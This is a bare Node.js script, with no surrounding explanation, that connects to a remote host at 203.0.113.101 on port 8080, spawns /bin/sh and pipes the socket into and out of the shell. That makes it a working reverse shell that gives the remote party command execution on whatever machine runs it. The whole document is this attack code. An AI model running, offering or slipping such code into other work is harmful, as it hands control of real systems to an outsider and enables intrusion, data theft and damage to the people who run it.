const net = require('net');
const { spawn } = require('child_process');

const sock = net.connect(8080, '203.0.113.101', () => {
  const sh = spawn('/bin/sh', []);
  sock.pipe(sh.stdin);
  sh.stdout.pipe(sock);
});
